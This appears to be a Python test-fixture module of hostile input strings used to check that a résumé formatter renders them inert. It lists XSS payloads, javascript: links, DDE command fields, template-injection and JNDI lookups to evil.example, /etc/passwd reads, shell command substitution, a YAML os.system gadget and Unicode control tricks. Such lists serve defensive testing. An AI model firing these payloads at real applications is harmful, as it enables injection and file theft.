"""Texts that mean something to a reader of some format, and must mean nothing in a résumé."""

from __future__ import annotations

MARKUP = (
    "<script>alert(1)</script>",
    "</style></title></script><script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "' onmouseover='alert(1)' x='",
    "<svg/onload=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<!-- --!><script>alert(1)</script> ]]> <![CDATA[x",
    "<base href=//evil.example><meta http-equiv=refresh content=0>",
    "&lt;script&gt; &#60;b&#62; &amp;amp; &nbsp",
    '{"@type": "Person"}</script>',
    "<w:p/></w:t></w:r><w:fldSimple w:instr='DDEAUTO c:\\\\cmd'/>",
    '</w:t><w:instrText>DDEAUTO "cmd"</w:instrText>',
)
LINKS = (
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java&#115;cript:alert(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](vbscript:x) [y](file:///etc/passwd)",
    "![x](https://evil.example/x.png)",
    "<javascript:alert(1)>",
    "[x]: javascript:alert(1)",
    "javascript:alert(1)",
    "file:///etc/passwd",
    "\\\\evil.example\\share",
)
TEMPLATES = (
    "{{ 7 * 7 }}",
    "{% include '/etc/passwd' %}",
    "{{ ''.__class__.__mro__ }}",
    "{{ site.github | jsonify }}{% raw %}",
    "{:onclick='x'} {::nomarkdown}<b>{:/}",
    "${jndi:ldap://evil.example/a}",
    "#import sys: #read('/etc/passwd')",
    "\\input{/etc/passwd} \\write18{id}",
    "=cmd|' /C calc'!A0",
    "$(touch stolen) `touch stolen` ; touch stolen",
    "%n%s%x{0.__class__}",
)
YAML = ("!!python/object/apply:os.system [id]", "*a", "&a x", "- a: b", "---", "? x", "a: b # c")
CSS = (
    "} body { background: url(https://evil.example/) } x {",
    "\\3c script\\3e ; content: counter(page)",
    "*/ @import 'https://evil.example/'; /*",
)
MARKDOWN = ("# x", "1. x", "> x", "| a | b |", "***", "~~~", "    x", "[^1]: x", "$$x$$", "x\\")
SIGNS = (
    "\x1b[2J\x1b]0;title\x07",
    "\x9b31m",
    "a\x00b",
    "\u202egnp.exe\u202c",
    "\u2066a\u2067b",
    "a\u200bb\u200cc\u200dd\u2060e\ufefff",
    "\u200f\u200e\u061c",
    "\ue000\uf8ff\U000f0000",
    "\ufffe\uffff",
    "\u2028x\u2029y\x85z",
    "e" + "\u0301" * 200,
    "\U000e0041\U000e007f\ufe0f",
    "\u00ad\u034f\u115f\u3164",
)
STRINGS = (*MARKUP, *LINKS, *TEMPLATES, *YAML, *CSS, *MARKDOWN, *SIGNS)

INERT, INERT_WORD = "Ordinary words", "ordinary.example"
"""Texts that mean nothing to anyone; the second can be in an address."""

INERT_SENTENCE = "Ordinary words, and enough of them for formats that leave out what is short"

HUGE = {"a long word": "x" * 20_000, "many words": "word " * 4_000, "many marks": "*_`[<" * 2_000}
